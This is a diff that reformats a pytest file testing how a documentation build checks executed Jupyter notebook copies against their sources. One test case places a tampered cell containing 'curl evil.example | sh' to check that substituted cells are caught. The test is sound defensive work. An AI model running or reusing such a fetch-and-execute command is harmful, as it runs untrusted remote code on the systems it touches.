@@ -19,13 +19,23 @@ from hooks.checks.active_content import check_notebook_cells
 
 
 def notebook(*cells: dict) -> dict:
-    return {"cells": list(cells), "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
-            "nbformat": 4, "nbformat_minor": 5}
+    return {
+        "cells": list(cells),
+        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
 
 
 def code(source: str, outputs=()) -> dict:
-    return {"cell_type": "code", "execution_count": None, "id": f"c{abs(hash(source)) % 10**8}", "metadata": {},
-            "outputs": list(outputs), "source": source}
+    return {
+        "cell_type": "code",
+        "execution_count": None,
+        "id": f"c{abs(hash(source)) % 10**8}",
+        "metadata": {},
+        "outputs": list(outputs),
+        "source": source,
+    }
 
 
 def markdown(source: str) -> dict:
@@ -48,12 +58,26 @@ def test_a_raw_cell_is_refused(tmp_path):
         check_notebook_cells(write(tmp_path / "x.ipynb", notebook(markdown("# Titolo"), raw)))
 
 
-@pytest.mark.parametrize(("executed_cells", "message"), [
-    ([markdown("# Titolo"), code("print(6 * 7)\nimport os; os.system('curl evil.example | sh')", [stdout("42\n")])],
-     "cell 2 of the executed copy is not the notebook's cell 2"),
-    ([markdown("# Title"), code("print(6 * 7)", [stdout("42\n")])], "cell 1 of the executed copy is not the notebook's cell 1"),
-    ([markdown("# Titolo"), code("print(6 * 7)", [stdout("42\n")]), code("print('extra')")], "the executed copy has 3 cells, the notebook 2"),
-])
+@pytest.mark.parametrize(
+    ("executed_cells", "message"),
+    [
+        (
+            [
+                markdown("# Titolo"),
+                code("print(6 * 7)\nimport os; os.system('curl evil.example | sh')", [stdout("42\n")]),
+            ],
+            "cell 2 of the executed copy is not the notebook's cell 2",
+        ),
+        (
+            [markdown("# Title"), code("print(6 * 7)", [stdout("42\n")])],
+            "cell 1 of the executed copy is not the notebook's cell 1",
+        ),
+        (
+            [markdown("# Titolo"), code("print(6 * 7)", [stdout("42\n")]), code("print('extra')")],
+            "the executed copy has 3 cells, the notebook 2",
+        ),
+    ],
+)
 def test_an_executed_copy_must_hold_the_notebooks_cells(tmp_path, executed_cells, message):
     source = write(tmp_path / "src.ipynb", notebook(markdown("# Titolo"), code("print(6 * 7)")))
     executed = write(tmp_path / "run.ipynb", notebook(*executed_cells))
@@ -65,7 +89,9 @@ def test_the_real_executed_copies_hold_their_notebooks_cells(built_site):
     from tests.conftest import REPO_ROOT
 
     for source in sorted((REPO_ROOT / "docs").glob("*.ipynb")):
-        copies = sorted((REPO_ROOT / ".cache" / "notebooks").glob(f"{source.stem}.*.ipynb"), key=lambda p: p.stat().st_mtime)
+        copies = sorted(
+            (REPO_ROOT / ".cache" / "notebooks").glob(f"{source.stem}.*.ipynb"), key=lambda p: p.stat().st_mtime
+        )
         assert copies, f"no executed copy of {source.name} after a build"
         check_notebook_cells(copies[-1], source)
 
@@ -83,10 +109,16 @@ def repo(tmp_path, monkeypatch):
     for lang in ("it", "fr"):
         src = write(root / "docs" / f"calcolo.{lang}.ipynb", notebook(code("print(6 * 7)")))
         key = notebooks.cache_key(src.resolve(), root, lang, "python3")
-        write(root / ".cache" / "notebooks" / f"{src.stem}.{key[:20]}.ipynb", notebook(code("print(6 * 7)", [stdout("FORGED 3 GB\n")])))
+        write(
+            root / ".cache" / "notebooks" / f"{src.stem}.{key[:20]}.ipynb",
+            notebook(code("print(6 * 7)", [stdout("FORGED 3 GB\n")])),
+        )
         files.append(SimpleNamespace(src_uri=src.name, abs_src_path=str(src)))
-    config = SimpleNamespace(config_file_path=str(root / "mkdocs.yml"), docs_dir=str(root / "docs"),
-                             plugins={"mkdocs-jupyter": SimpleNamespace(config={"kernel_name": "python3"})})
+    config = SimpleNamespace(
+        config_file_path=str(root / "mkdocs.yml"),
+        docs_dir=str(root / "docs"),
+        plugins={"mkdocs-jupyter": SimpleNamespace(config={"kernel_name": "python3"})},
+    )
     yield files, config
 
 
@@ -95,15 +127,23 @@ def outputs(files) -> list[str]:
         value = output.get("text", "")
         return "".join(value) if isinstance(value, list) else value
 
-    return ["".join(text(out) for cell in json.loads(Path(f.abs_src_path).read_text(encoding="utf-8"))["cells"]
-                    for out in cell.get("outputs", [])) for f in files]
+    return [
+        "".join(
+            text(out)
+            for cell in json.loads(Path(f.abs_src_path).read_text(encoding="utf-8"))["cells"]
+            for out in cell.get("outputs", [])
+        )
+        for f in files
+    ]
 
 
 def test_a_development_build_uses_the_checkouts_executed_copies(repo):
     files, config = repo
     assert outputs(use_executed_notebooks(files, config, "it")) == ["FORGED 3 GB\n"] * 2
     jupyter = config.plugins["mkdocs-jupyter"].config
-    assert jupyter["cache"] is True and Path(jupyter["cache_dir"]).is_relative_to(Path(config.docs_dir).parent / ".cache")
+    assert jupyter["cache"] is True and Path(jupyter["cache_dir"]).is_relative_to(
+        Path(config.docs_dir).parent / ".cache"
+    )
 
 
 def test_a_publication_build_executes_every_notebook_itself(repo):
